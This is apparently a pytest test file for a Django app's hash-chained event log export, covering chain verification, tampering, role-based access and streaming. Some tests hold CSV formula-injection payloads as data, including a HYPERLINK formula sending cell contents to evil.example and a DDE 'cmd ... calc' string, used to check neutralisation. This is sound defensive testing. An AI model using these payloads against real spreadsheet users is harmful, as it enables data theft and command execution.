"""A city official or reviewer downloads an event's after-action log as CSV or JSON Lines and a
third party checks it with nothing but the documented algorithm: every entry, in order, with its
hash. Only those who may read the log may download it."""

import csv
import datetime as dt
import hashlib
import io
import json
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
from asgiref.sync import async_to_sync
from django.db import transaction
from django.utils import timezone

from coordination import log
from coordination.models import LogEntry
from events import services
from review import exports
from tests.support.factories import make_user

GENESIS = "0" * 64


def export(client, event, fmt, slash=""):
    return client.get(f"/api/v1/events/{event.pk}/log/export{slash}", {"format": fmt})


def body_of(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


# An independent re-implementation of the chain in docs/log.md: hashlib and json only.

def chain_is_intact(entries: list[dict]) -> tuple[bool, int | None]:
    previous = GENESIS
    for position, entry in enumerate(entries, start=1):
        if entry["seq"] != position:
            return False, position
        canonical = json.dumps(
            {"seq": entry["seq"], "at": entry["at"], "actor": entry["actor"],
             "kind": entry["kind"], "data": entry["data"]},
            sort_keys=True, separators=(",", ":"), ensure_ascii=False,
        )
        expected = hashlib.sha256((previous + "\n" + canonical).encode("utf-8")).hexdigest()
        if expected != entry["hash"]:
            return False, entry["seq"]
        previous = entry["hash"]
    return True, None


def entries_from_csv(text: str) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return [{"seq": int(row["seq"]), "at": row["at"], "actor": json.loads(row["actor"]),
             "kind": row["kind"], "data": json.loads(row["data"]), "hash": row["hash"],
             "row": row} for row in rows]


def entries_from_jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines()]


@pytest.fixture
def awkward_event(alices_event, alice, carol):
    """Alice's event with entries that are hard to write down: a title that looks like a
    spreadsheet formula and has quotes, commas and a line break; a system entry (no actor);
    and an incident recorded some minutes after it happened."""
    services.transition_event(alices_event, to="under_review", actor=carol)
    services.transition_event(alices_event, to="changes_requested", actor=carol, note="Title?")
    services.update_event(alices_event, actor=alice,
                          title='=HYPERLINK("x"), "quoted"\nsecond line ✊')
    happened = log.format_timestamp(dt.datetime(2026, 5, 1, 12, 0, tzinfo=dt.UTC))
    with transaction.atomic():
        log.record(alices_event, actor=None, kind="system.note", data={"n": 1.5, "ok": None})
        log.record(alices_event, actor=carol, kind="incident.reported",
                   data={"happened_at": happened, "severity": "high", "note": "+1 -2 @x"})
    alices_event.refresh_from_db()
    return alices_event


# --- what the files hold ------------------------------------------------------------------


def test_csv_export_holds_every_entry_in_order_and_verifies_independently(awkward_event,
                                                                           carol, api):
    response = export(api(carol), awkward_event, "csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{awkward_event.reference}-log.csv"')
    text = body_of(response)
    assert text.splitlines()[0] == (
        "seq,at,actor_id,actor_name,actor_role,kind,data,hash,actor,happened_at")
    entries = entries_from_csv(text)
    stored = list(LogEntry.objects.filter(event=awkward_event).order_by("seq"))
    assert [e["seq"] for e in entries] == [s.seq for s in stored] == list(range(1, 10))
    assert [e["hash"] for e in entries] == [s.hash for s in stored]
    assert chain_is_intact(entries) == (True, None)


def test_csv_export_keeps_the_hashed_json_exactly_even_when_it_looks_like_a_formula(
        awkward_event, carol, api):
    entries = entries_from_csv(body_of(export(api(carol), awkward_event, "csv")))
    changed = entries[6]

    assert changed["kind"] == "event.changed"
    assert changed["data"]["title"] == '=HYPERLINK("x"), "quoted"\nsecond line ✊'
    assert changed["row"]["actor_name"] == "Alice Martin"
    assert changed["row"]["actor_role"] == "organiser"
    assert entries[8]["data"]["note"] == "+1 -2 @x"


#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.subprocess
def test_csv_export_neutralises_names_that_a_spreadsheet_would_run(alices_event, carol, api,
                                                                    tmp_path):
    # Anyone can sign up as an organiser and choose their name; the city opens the export.
    names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+SUM(1)", "-2+3",
             "@SUM(1)", "=1|2"]
    with transaction.atomic():
        for number, name in enumerate(names):
            person = make_user(f"hostile{number}", "organiser", name=name)
            log.record(alices_event, actor=person, kind="event.changed",
                       data={"title": name})
    text = body_of(export(api(carol), alices_event, "csv"))

    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    shown = [row["row"]["actor_name"] for row in entries_from_csv(text)[-len(names):]]
    assert shown == ["'" + name.replace("|", "\\|") for name in names]
    # The columns the hash covers are JSON text and untouched: the file still verifies.
    assert [row["data"]["title"] for row in entries_from_csv(text)[-len(names):]] == names
    result = run_documented_script(tmp_path, text, "csv")
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("start", ["\t", "\r", "=", "+", "-", "@"])
def test_no_csv_cell_starts_a_formula_whatever_the_actor_snapshot_holds(start):
    actor = {"id": 7, "name": f"{start}cmd|' /C calc'!A0", "role": f"{start}organiser"}
    rows = [(1, "2026-05-01T09:00:00Z", actor, "event.created", {"title": "x"}, "ab" * 32)]

    lines = "".join(exports.csv_lines(rows))

    cells = [cell for row in csv.reader(io.StringIO(lines, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert json.loads(cells[len(exports.CSV_HEADER) + 8]) == actor  # the hashed column


def test_csv_export_spells_out_the_system_actor_as_empty(awkward_event, carol, api):
    system = entries_from_csv(body_of(export(api(carol), awkward_event, "csv")))[7]

    assert system["actor"] is None
    assert (system["row"]["actor_id"], system["row"]["actor_name"],
            system["row"]["actor_role"]) == ("", "", "")
    assert system["data"] == {"n": 1.5, "ok": None}


def test_csv_export_shows_when_a_thing_happened_only_where_it_differs(awkward_event,
                                                                      carol, api):
    entries = entries_from_csv(body_of(export(api(carol), awkward_event, "csv")))

    assert [e["row"]["happened_at"] for e in entries] == [""] * 8 + ["2026-05-01T12:00:00Z"]
    assert entries[8]["at"] != "2026-05-01T12:00:00Z"


def test_jsonl_export_holds_every_entry_in_order_and_verifies_independently(awkward_event,
                                                                             carol, api):
    response = export(api(carol), awkward_event, "jsonl")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{awkward_event.reference}-log.jsonl"')
    entries = entries_from_jsonl(body_of(response))
    assert [e["seq"] for e in entries] == list(range(1, 10))
    assert [e["hash"] for e in entries] == list(
        LogEntry.objects.filter(event=awkward_event).order_by("seq").values_list("hash",
                                                                               flat=True))
    assert chain_is_intact(entries) == (True, None)


def test_jsonl_export_has_the_contract_keys_and_happened_at_only_where_it_differs(
        awkward_event, carol, api):
    entries = entries_from_jsonl(body_of(export(api(carol), awkward_event, "jsonl")))
    keys = {"seq", "at", "actor", "kind", "data", "hash"}

    assert all(set(e) == keys for e in entries[:8])
    assert set(entries[8]) == keys | {"happened_at"}
    assert entries[8]["happened_at"] == entries[8]["data"]["happened_at"]
    assert "✊" in body_of(export(api(carol), awkward_event, "jsonl"))  # not \\u-escaped


def test_an_export_of_a_tampered_log_fails_the_independent_check(awkward_event, carol, api):
    from tests.support.logs import TABLE, tamper

    entry = LogEntry.objects.get(event=awkward_event, seq=4)
    tamper(f"UPDATE {TABLE} SET kind = %s WHERE id = %s", ["event.nothing", entry.pk])

    jsonl = entries_from_jsonl(body_of(export(api(carol), awkward_event, "jsonl")))
    rows = entries_from_csv(body_of(export(api(carol), awkward_event, "csv")))

    assert chain_is_intact(jsonl) == (False, 4)
    assert chain_is_intact(rows) == (False, 4)


def test_a_long_log_is_exported_whole_across_read_chunks(alices_event, carol, api,
                                                         monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 7)  # many database chunks for a short test
    with transaction.atomic():
        log.record_many(alices_event, [(carol, "test.entry", {"i": i}) for i in range(300)])
    total = alices_event.log_entries.count()

    jsonl = entries_from_jsonl(body_of(export(api(carol), alices_event, "jsonl")))
    rows = entries_from_csv(body_of(export(api(carol), alices_event, "csv")))

    assert [e["seq"] for e in jsonl] == [e["seq"] for e in rows] == list(range(1, total + 1))
    assert chain_is_intact(jsonl) == chain_is_intact(rows) == (True, None)


def test_export_is_streamed_in_pieces(alices_event, carol, api):
    with transaction.atomic():
        log.record_many(alices_event, [(carol, "test.entry", {"pad": "x" * 500})
                                       for _ in range(300)])

    response = export(api(carol), alices_event, "csv")
    pieces = list(response.streaming_content)

    assert len(pieces) > 1
    assert entries_from_csv(b"".join(pieces).decode())[-1]["seq"] == 304


def test_export_url_works_with_a_trailing_slash(alices_event, carol, api):
    response = export(api(carol), alices_event, "jsonl", slash="/")

    assert response.status_code == 200
    assert len(body_of(response).splitlines()) == 4


@pytest.mark.parametrize("fmt", ["xml", "", "CSV"])
def test_unknown_export_format_is_refused_by_name(fmt, alices_event, carol, api):
    response = export(api(carol), alices_event, fmt)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert list(response.json()) == ["format"]


def test_export_without_a_format_is_refused_by_name(alices_event, carol, api):
    response = api(carol).get(f"/api/v1/events/{alices_event.pk}/log/export")

    assert response.status_code == 400
    assert list(response.json()) == ["format"]


def test_pdf_export_is_the_after_action_report(alices_event, carol, api):
    response = export(api(carol), alices_event, "pdf")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{alices_event.reference}-after-action.pdf"')
    assert response.content.startswith(b"%PDF")


# --- who may download -----------------------------------------------------------------------


@pytest.fixture
def concluded_alices_event(alices_event, carol):
    """Alice's demonstration taken straight to concluded: no zone, nothing said."""
    for state in ("under_review", "agreed", "live", "concluded"):
        services.transition_event(alices_event, to=state, actor=carol)
    alices_event.refresh_from_db()
    return alices_event


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "pdf"])
def test_anonymous_visitor_cannot_download(fmt, alices_event, api):
    response = export(api(), alices_event, fmt)

    assert response.status_code == 401
    assert "detail" in response.json()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "pdf"])
def test_the_events_organiser_may_not_download_the_log(fmt, alices_event, alice, api):
    response = export(api(alice), alices_event, fmt)

    assert response.status_code == 403
    assert "detail" in response.json()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "pdf"])
def test_another_organiser_gets_404(fmt, alices_event, mallory, api):
    assert export(api(mallory), alices_event, fmt).status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "pdf"])
def test_police_member_may_not_download_the_log(fmt, alices_event, bob, api):
    response = export(api(bob), alices_event, fmt)

    assert response.status_code == 403
    assert "detail" in response.json()


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_police_officer_who_is_not_a_member_may_not_download_the_log(fmt, alices_event, api):
    erin = make_user("erin", "police")

    assert export(api(erin), alices_event, fmt).status_code == 403


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_city_staff_download_any_events_log(fmt, alices_event, api):
    # Frank is city staff but not a member of Alice's event.
    frank = make_user("frank", "city")

    assert export(api(frank), alices_event, fmt).status_code == 200


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "pdf"])
def test_reviewer_gets_404_before_the_event_is_concluded(fmt, alices_event, dave, api):
    assert export(api(dave), alices_event, fmt).status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_reviewer_downloads_a_concluded_events_log(fmt, concluded_alices_event, dave, api):
    response = export(api(dave), concluded_alices_event, fmt)

    assert response.status_code == 200
    text = body_of(response)
    entries = entries_from_csv(text) if fmt == "csv" else entries_from_jsonl(text)
    assert entries[-1]["kind"] == "event.transition"
    assert chain_is_intact(entries) == (True, None)


def test_reviewer_downloads_a_concluded_events_report(concluded_alices_event, dave, api):
    response = export(api(dave), concluded_alices_event, "pdf")

    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")


def test_export_of_a_nonexistent_event_is_404(carol, api):
    assert api(carol).get("/api/v1/events/999999/log/export", {"format": "csv"}).status_code == 404


# --- the documented script ------------------------------------------------------------------


def documented_script() -> str:
    """The verification script of docs/log.md, exactly as a reader would copy it."""
    text = (Path(__file__).resolve().parents[2] / "docs" / "log.md").read_text()
    after_marker = text.split("<!-- verify-export-script -->", 1)[1]
    return after_marker.split("```python\n", 1)[1].split("```", 1)[0]


def run_documented_script(tmp_path, text: str, suffix: str, *receipts: str):
    script = tmp_path / "verify_export.py"
    script.write_text(documented_script())
    export_file = tmp_path / f"export.{suffix}"
    export_file.write_text(text, encoding="utf-8", newline="")
    return subprocess.run([sys.executable, "-I", str(script), str(export_file), *receipts],
                          capture_output=True, text=True, timeout=60, cwd=tmp_path)


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.subprocess
def test_documented_script_verifies_an_export(fmt, awkward_event, carol, api, tmp_path):
    text = body_of(export(api(carol), awkward_event, fmt))
    last = LogEntry.objects.filter(event=awkward_event).order_by("seq").last()

    result = run_documented_script(tmp_path, text, fmt)

    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"OK: 9 entries, last hash {last.hash}"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.subprocess
def test_documented_script_names_the_first_bad_entry(fmt, awkward_event, carol, api,
                                                     tmp_path):
    from tests.support.logs import TABLE, tamper

    entry = LogEntry.objects.get(event=awkward_event, seq=7)
    tamper(f"UPDATE {TABLE} SET data = %s WHERE id = %s", ['{"title": "Nothing"}', entry.pk])
    text = body_of(export(api(carol), awkward_event, fmt))

    result = run_documented_script(tmp_path, text, fmt)

    assert result.returncode == 1
    assert result.stdout.strip() == "BROKEN at seq 7"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.subprocess
def test_documented_script_checks_receipts_kept_outside_parley(fmt, awkward_event, carol, api,
                                                               tmp_path):
    entry = LogEntry.objects.get(event=awkward_event, seq=5)
    receipt = f"{entry.seq}:{entry.hash}"
    text = body_of(export(api(carol), awkward_event, fmt))

    result = run_documented_script(tmp_path, text, fmt, receipt)

    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.splitlines()[-1] == f"receipt {receipt}: holds"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.subprocess
def test_documented_script_catches_a_rewritten_log_that_still_chains(fmt, awkward_event,
                                                                     carol, api, tmp_path):
    from tests.support.logs import rewrite_log

    entry = LogEntry.objects.get(event=awkward_event, seq=5)
    receipt = f"{entry.seq}:{entry.hash}"
    rewrite_log(awkward_event, seq=3, data={"forged": True})
    text = body_of(export(api(carol), awkward_event, fmt))

    result = run_documented_script(tmp_path, text, fmt, receipt)

    assert result.returncode == 1
    assert result.stdout.splitlines() == [
        f"OK: 9 entries, last hash {LogEntry.objects.get(event=awkward_event, seq=9).hash}",
        f"receipt {receipt}: does NOT hold",
    ]


# --- two timestamps -------------------------------------------------------------------------


def record_incident(event, actor, happened_at):
    with transaction.atomic():
        return log.record(event, actor=actor, kind="incident.reported",
                          data={"happened_at": log.format_timestamp(happened_at)})


def test_an_incident_reported_later_has_both_times(alices_event, carol, api):
    happened = timezone.now() - dt.timedelta(minutes=10)
    entry = record_incident(alices_event, carol, happened)

    assert log.happened_at_of(entry) == happened
    line = entries_from_jsonl(body_of(export(api(carol), alices_event, "jsonl")))[-1]
    assert line["happened_at"] == log.format_timestamp(happened)
    assert line["at"] == log.format_timestamp(entry.at)


def test_an_incident_reported_as_it_happens_has_one_time(alices_event, carol, api):
    # "Now" when reported, a few microseconds before the entry is stored: the same moment.
    entry = record_incident(alices_event, carol, timezone.now())

    assert log.happened_at_of(entry) is None
    assert "happened_at" not in entries_from_jsonl(
        body_of(export(api(carol), alices_event, "jsonl")))[-1]
    row = entries_from_csv(body_of(export(api(carol), alices_event, "csv")))[-1]["row"]
    assert row["happened_at"] == ""


def test_entries_without_a_happened_at_have_none(alices_event):
    first = alices_event.log_entries.order_by("seq").first()

    assert log.happened_at_of(first) is None


def test_export_streams_piece_by_piece_when_served_over_asgi(alices_event, carol, api):
    # Daphne serves Parley: Django's ASGI handler reads a response with ``async for``. The
    # export must not be read whole into memory first (Django warns when it does that).
    with transaction.atomic():
        log.record_many(alices_event, [(carol, "test.entry", {"pad": "x" * 500})
                                       for _ in range(300)])
    response = export(api(carol), alices_event, "jsonl")

    async def read_as_asgi_does():
        return [piece async for piece in response]

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        pieces = async_to_sync(read_as_asgi_does)()

    assert len(pieces) > 1
    assert [e["seq"] for e in entries_from_jsonl(b"".join(pieces).decode())] == list(
        range(1, 305))
